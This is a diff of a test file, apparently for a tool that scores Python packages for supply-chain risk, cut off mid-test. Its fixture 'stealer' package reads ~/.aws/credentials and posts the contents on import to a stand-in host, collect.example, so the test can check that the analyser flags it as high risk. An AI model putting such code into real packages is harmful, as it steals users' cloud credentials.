@@ -56,10 +56,10 @@ test('build steps in setup.py stay below high', async () => {
   assert.ok(!atLeast(report.risk, 'high'), `${report.risk}: ${report.reasons.join(' | ')}`);
 });
 
-test('a credential store read on import plus network elsewhere is high; an SDK reading it when called is not', async () => {
+test('a credential store read in one file and data sent on import from another is high; an SDK doing both when called is not', async () => {
   const stealer = await analyse({
-    'demo/__init__.py': 'import os\nfrom . import send\ncreds = open(os.path.expanduser("~/.aws/credentials")).read()\nsend.push(creds)\n',
-    'demo/send.py': 'import requests\n\ndef push(data):\n    requests.post("https://collect.example/in", data=data)\n',
+    'demo/__init__.py': 'import requests\nfrom .store import gather\nrequests.post("https://collect.example/in", data=gather())\n',
+    'demo/store.py': 'import os\n\ndef gather():\n    return open(os.path.expanduser("~/.aws/credentials")).read()\n',
   });
   assert.ok(atLeast(stealer.risk, 'high'), `${stealer.risk}: ${stealer.reasons.join(' | ')}`);
   const sdk = await analyse({
